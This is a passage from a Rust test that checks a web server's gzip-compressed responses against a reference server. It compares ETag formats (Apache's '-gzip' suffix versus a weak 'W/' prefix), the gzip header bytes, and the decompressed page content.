        let etag = header_value(&got, "ETag").unwrap();
        let plain_etag = header_value(&ours_root, "ETag").unwrap();
        match app {
            "apache" => assert_eq!(
                etag,
                format!("{}-gzip\"", &plain_etag[..plain_etag.len() - 1])
            ),
            _ => assert_eq!(etag, format!("W/{plain_etag}")),
        }
        let inflate = |bytes: &[u8]| {
            let mut out = Vec::new();
            std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(bytes), &mut out).unwrap();
            out
        };
        assert_eq!(
            got_body[..10],
            want_body[..10],
            "{product}: the gzip header"
        );
        assert_eq!(
            normalise(&inflate(&got_body), &[]),
            normalise(&inflate(&want_body), &[]),
            "{product}: the page, decompressed"
        );
        drop(harness);
    }
}
